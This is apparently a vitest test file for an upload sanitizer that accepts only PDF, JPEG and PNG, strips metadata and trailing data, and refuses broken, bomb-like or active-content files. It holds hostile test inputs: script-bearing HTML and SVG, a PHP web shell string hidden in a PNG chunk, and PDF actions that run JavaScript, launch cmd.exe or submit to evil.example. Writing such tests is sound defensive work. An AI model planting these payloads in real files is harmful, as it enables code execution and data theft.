import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { aHandmadePdf, aJpeg, aPdf, aPng, chunk, exif, JPEG } from '../../../../test/merchants/business-files.ts'
import { DocumentError } from './document-error.ts'
import { readDocument } from './read-document.ts'

/** The stored bytes of a file, or why it is not accepted. */
async function stored(file: Buffer): Promise<Buffer | string> {
  try {
    return Buffer.concat((await readDocument(file)).parts)
  } catch (error) {
    if (error instanceof DocumentError) return error.code
    throw error
  }
}
const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')

test('a type is what the bytes are: what is no PDF, JPEG or PNG from its first byte on is refused', async () => {
  expect((await readDocument(await aPdf())).mediaType).toBe('application/pdf')
  expect((await readDocument(aJpeg())).mediaType).toBe('image/jpeg')
  expect((await readDocument(aPng())).mediaType).toBe('image/png')
  const pdf = await aPdf()
  for (const other of [
    latin1('<html><script>alert(1)</script>'),
    latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    latin1('MZ\x90\0'),
    latin1('GIF89a'),
    latin1('PK\x03\x04'),
    Buffer.concat([latin1('\n'), pdf]),
    Buffer.concat([latin1('<html>'), pdf]),
    Buffer.alloc(0),
  ]) {
    expect(await stored(other)).toBe('UNKNOWN_TYPE')
  }
})

test('of a JPEG the picture stays, and which way up it is; comments, places and what stands behind it go', async () => {
  const photo = Buffer.concat([aJpeg(exif(6), JPEG.comment), latin1('PK\x03\x04 an archive'), aJpeg()])
  const clean = (await stored(photo)) as Buffer
  for (const gone of ['script', 'GPS', 'archive']) expect([gone, clean.includes(gone)]).toEqual([gone, false])
  const turned = clean.indexOf('Exif')
  expect(clean.subarray(turned, turned + 32).toString('hex')).toBe(
    `${latin1('Exif\0\0MM\0*').toString('hex')}00000008000101120003000000010006000000000000`,
  )
  expect(await stored(clean)).toEqual(clean)
  expect(await stored(aJpeg(exif(1), exif(9)))).toEqual(aJpeg())
})

test('of a PNG the picture stays; texts and what stands behind it go', async () => {
  const beside = Buffer.concat([chunk('tEXt', latin1('Comment\0<?php system($_GET[0]) ?>')), chunk('eXIf', exif(1))])
  const clean = await stored(Buffer.concat([aPng({ beside }), latin1('%PDF-1.7 %%EOF')]))
  expect(clean).toEqual(aPng())
})

test('a picture that is cut short, damaged, or unfolds to a wall is refused', async () => {
  const jpeg = aJpeg()
  const png = aPng()
  for (const end of [10, 40, jpeg.length - 2]) expect(await stored(jpeg.subarray(0, end))).toBe('BROKEN')
  for (const end of [20, png.length - 5]) expect(await stored(png.subarray(0, end))).toBe('BROKEN')
  const flipped = Buffer.from(png)
  flipped.writeUInt8(flipped.readUInt8(45) ^ 1, 45)
  expect(await stored(flipped)).toBe('BROKEN')
  expect(await stored(aPng({ width: 60_000, height: 60_000 }))).toBe('TOO_COMPLEX')
  const { start, frame, tables, codes, scan, end } = JPEG
  expect(await stored(Buffer.concat([start, tables, frame(60_000, 60_000), codes, scan, end]))).toBe('TOO_COMPLEX')
  expect(await stored(Buffer.concat([start, tables, codes, scan, end]))).toBe('BROKEN')
  expect(await stored(Buffer.concat([start, frame(0, 5), scan, end]))).toBe('BROKEN')
})

test('a PDF stays as it is up to its end; one that is cut short is refused', async () => {
  const pdf = await aPdf((sheet) => sheet.link(10, 10, 50, 20, 'https://ahu.go.id'))
  const end = pdf.lastIndexOf('%%EOF') + 5
  expect(await stored(Buffer.concat([pdf, latin1('\nPK\x03\x04 more')]))).toEqual(pdf.subarray(0, end))
  expect(await stored(pdf.subarray(0, end - 40))).toBe('BROKEN')
})

test('a PDF with a script, a file or an action in it is refused, however its names are written', async () => {
  expect(await stored(await aPdf((sheet) => sheet.addNamedJavaScript('run', 'app.alert(1)')))).toBe('ACTIVE_CONTENT')
  const attached = await aPdf((sheet) => sheet.file(latin1('MZ'), { name: 'setup.exe' }))
  expect(await stored(attached)).toBe('ACTIVE_CONTENT')
  for (const action of [
    '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
    '/OpenAction << /S /Java#53cript /JS (app.alert(1)) >>',
    '/AA << /O << /S /Launch /F (cmd.exe) >> >>',
    '/OpenAction << /S /SubmitForm /F (https://evil.example) >>',
    '/AcroForm << /XFA 7 0 R >>',
    '/A << /S /GoToE >>',
    '/EF << /F 7 0 R >>',
  ]) {
    const plain = aHandmadePdf('/Type /Catalog', latin1('x'), `2 0 obj << ${action} >> endobj`)
    expect([action, await stored(plain)]).toEqual([action, 'ACTIVE_CONTENT'])
    const packed = aHandmadePdf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(`2 0 << ${action} >>`))
    expect([action, await stored(packed)]).toEqual([action, 'ACTIVE_CONTENT'])
  }
  const harmless = '/OpenAction [3 0 R /FitH 800] /A << /S /URI /URI (https://ahu.go.id) >>'
  expect(await stored(aHandmadePdf('/Type /Catalog', latin1('x'), `2 0 obj << ${harmless} >> endobj`))).toBeInstanceOf(
    Buffer,
  )
})

test('a PDF that cannot be looked into is refused, and so is one that unfolds to a wall', async () => {
  expect(await stored(await aPdf(() => {}, { userPassword: 'rahasia' }))).toBe('LOCKED')
  const objects = '/Type /ObjStm /N 1 /First 4 /Filter'
  const packed = deflateSync('2 0 << >>')
  expect(await stored(aHandmadePdf(`${objects} /FlateDecode`, packed))).toBeInstanceOf(Buffer)
  expect(await stored(aHandmadePdf(`${objects} [/FlateDecode]`, packed))).toBeInstanceOf(Buffer)
  for (const filter of ['/LZWDecode', '[/FlateDecode /ASCII85Decode]', '9 0 R', '/FlateDecode /Filter /LZWDecode']) {
    expect([filter, await stored(aHandmadePdf(`${objects} ${filter}`, packed))]).toEqual([filter, 'LOCKED'])
  }
  expect(await stored(aHandmadePdf(`${objects} /FlateDecode`, latin1('not deflate')))).toBe('BROKEN')
  const wall = deflateSync(Buffer.alloc(60 * 1024 * 1024))
  expect(await stored(aHandmadePdf('/Filter /FlateDecode', wall))).toBe('TOO_COMPLEX')
})

test('a PDF that is an archive as well is refused', async () => {
  const zip = Buffer.from(`PK\x05\x06${'\0'.repeat(16)}\x08\0\n%%EOF\n `, 'latin1')
  const pdf = await aPdf()
  expect(await stored(Buffer.concat([pdf, zip]))).toBe('TWO_TYPES')
})
